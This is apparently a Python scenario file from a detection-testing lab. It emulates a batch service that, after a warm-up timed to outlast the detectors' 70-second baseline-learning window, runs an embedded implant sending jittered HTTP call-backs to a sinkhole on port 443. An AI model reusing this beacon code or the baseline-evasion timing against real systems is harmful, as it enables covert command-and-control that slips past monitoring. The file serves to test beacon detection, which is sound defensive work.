"""A quiet batch service, after its warm-up, starts calling an outside endpoint at a jittered interval."""

from __future__ import annotations

import time

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.docker._platform import LEDGER_CLOSE, LEDGER_DB

# The detectors learn a new service's peers during its first 70 s (detectors/policy/network_baselines.yaml):
# the batch job runs its usual work for longer than that before the implant wakes up.
WARM_UP_S = 73
BEACON = ("import random,socket,sys,time\n"
          "for i in range(20):\n"
          "    try:\n"
          "        s=socket.create_connection((sys.argv[1],443),timeout=2)\n"
          "        s.sendall(b'GET /tasks?id=%d HTTP/1.1\\r\\nHost: cdn-status.example\\r\\n\\r\\n' % i)\n"
          "        s.recv(256); s.close()\n"
          "    except OSError: pass\n"
          "    time.sleep(1.5*random.uniform(0.7,1.3))\n")


class BatchBeacon(Scenario):
    id = "docker.network.batch-beacon"
    title = "Quiet batch service starts beaconing to an outside endpoint with jitter"
    kind = Kind.ADVERSARY
    techniques = ("T1071", "T1071.001")
    backends = ("docker",)
    expect = Expectation(
        fires=("stowaway.analytic.net-new-peer", "stowaway.analytic.net-beacon"), within_s=30, may_fire={
        "stowaway.net.process-egress-not-allowlisted":
            "Its implant really connects from the job's container to the sinkhole's port 443 on the lab "
            "internet, outside the egress allowlist.",
        "stowaway.net.egress-not-allowlisted":
            "Its implant's call-backs really leave the job's container for the sinkhole on the lab internet, "
            "outside the egress allowlist.",
    })
    twin = "docker.network.baselined-sync"
    tags = ("network", "beacon", "baseline")
    description = (
        "Deploys a ledger database stand-in on the LAN (socat on 5432) and the ledger-close batch job on the LAN "
        "and the lab internet, labelled as the batch tier, both the platform's signed images. The job's normal "
        "work is to connect to the database every 2-3.5 s. "
        f"After a {WARM_UP_S} s warm-up (the detectors learn the job's peers during its first 70 s), an implant "
        "started in the container calls the sinkhole's port 443 every 1.5 s +-30 % with a small HTTP request, 20 "
        "times. The scenario checks the sinkhole received at least three call-backs from the job's address."
    )

    def detonate(self, lab: Lab) -> None:
        sink = lab.sinkhole.address
        db = lab.deploy(WorkloadSpec(role="ledger-db", image=lab.platform_image(LEDGER_DB), command=(),
                                     networks=("lan",), labels={"app": "ledger-db", "tier": "data"}))
        job = lab.deploy(WorkloadSpec(role="batch", image=lab.platform_image(LEDGER_CLOSE), command=(),
                                      networks=("lan", "inet"), labels={"app": "ledger-close", "tier": "batch"},
                                      env={"DB_HOST": db.addresses["lan"]}))
        time.sleep(WARM_UP_S)
        lab.plant("destination", f"{sink}:443/tcp")  # what a responder's evidence must name
        lab.action("the batch job's implant starts beaconing")
        lab.exec(job, "python3", "-c", BEACON, sink, detach=True)
        source = job.addresses["inet"]
        lab.wait_for(lambda: len([r for r in lab.sinkhole_records(peer=source) if r.get("port") == 443]) >= 3,
                     timeout=15, what="three beacons to reach the sinkhole")
